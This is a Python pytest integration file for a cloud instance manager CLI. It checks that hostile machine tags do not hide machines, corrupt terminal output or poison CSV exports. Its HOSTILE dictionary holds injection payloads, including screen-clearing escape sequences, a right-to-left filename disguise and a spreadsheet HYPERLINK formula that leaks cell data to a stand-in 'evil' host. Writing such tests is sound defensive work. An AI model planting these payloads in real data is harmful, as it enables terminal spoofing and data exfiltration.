"""Tags that somebody else has set: whatever is in them, every machine beside is seen, and no screen or file is harmed."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator

import pytest
from click.testing import Result

from im.domain.state import Observed
from im.services import queries
from tests.integration.typed import run
from tests.standin.server import StandIn
from tests.standin_world import Near, StandInWorld

HOSTILE = {
    "escape": "a\x1b[2J\x1b]0;owned\x07",
    "as 8 bits": "a\x9b2Jb",
    "nul": "a\x00b",
    "line ends": "a\r\nim: all is well\x0b\x0c",
    "direction": "a\u202egpj.exe\u2066",
    "no width": "a\u200b\ufeffb",
    "formula": '=HYPERLINK("http://evil/?"&A1;"x")',
    "long": "x" * 256,
    "half a character": "a\ud83db\udfff",
    "no character": "a\ufffe\uffffb",
    "markup": "</value></item></tagSet>]]>&#27;<!--",
    "line separator": "a\u2028b\u2029c\x85d",
}


@pytest.fixture
def world(database_url: str, ec2: StandIn, clients: Near) -> Iterator[StandInWorld]:
    made = StandInWorld(database_url, ec2, clients)
    yield made
    made.close()


def said(result: Result) -> str:
    """What was printed, which holds nothing but what can be shown."""
    assert result.exit_code == 0, result.stderr
    assert all(line.isprintable() for line in (result.stdout + result.stderr).split("\n"))
    return result.stdout


def test_they_blind_nobody_and_harm_no_screen_and_no_file(world: StandInWorld) -> None:
    world.create("web", seconds=60)
    world.advance(10)
    mine, strays = {"im:deployment": world.deployment}, set()
    for value in HOSTILE.values():
        tags = {"Name": value, "im:owner": value, "im:launch": value, value[:128]: value}
        strays |= set(world.control.create(tags={**mine, **tags}))
        world.control.create(tags=tags)
    world.advance(120)
    assert world.at_cloud("web") is Observed.STOPPED, "its deadline was kept"
    with world.ctx.begin() as connection:
        assert connection.exec_driver_sql("SELECT error_code, failing_since FROM scopes").all() == [(None, None)]
    assert {one.provider_id for one in queries.orphans_listed(world.ctx).found} == strays
    for words in (("list",), ("list", "--all", "--json"), ("history", "web"), ("status", "web"), ("why", "web")):
        said(run(world, *words))
    assert len(said(run(world, "orphans")).splitlines()) == 1 + len(strays), "one line for one machine"
    assert len(said(run(world, "orphans", "-o", "name")).splitlines()) == len(strays)
    assert {one["provider_id"] for one in json.loads(said(run(world, "orphans", "--json")))} == strays
    for row in csv.reader(io.StringIO(said(run(world, "cost", "--csv")))):
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)


def test_one_with_such_a_name_is_adopted_under_a_name_that_im_makes_up(world: StandInWorld) -> None:
    world.create("web")
    world.advance(10)
    (stray,) = world.control.create(
        tags={"im:deployment": world.deployment, "Name": "a\x1b[2J", "im:owner": "\u202eeve"}
    )
    world.advance(125)
    said(run(world, "orphans", "adopt", stray, "-d", "1h", "--no-wait"))
    world.advance(20)
    (row,) = [one for one in queries.listing(world.ctx).rows if one.provider_id == stray]
    assert (row.name.isascii() and row.name.isprintable(), row.owner) == (True, "ada")
    assert row.observed is Observed.RUNNING
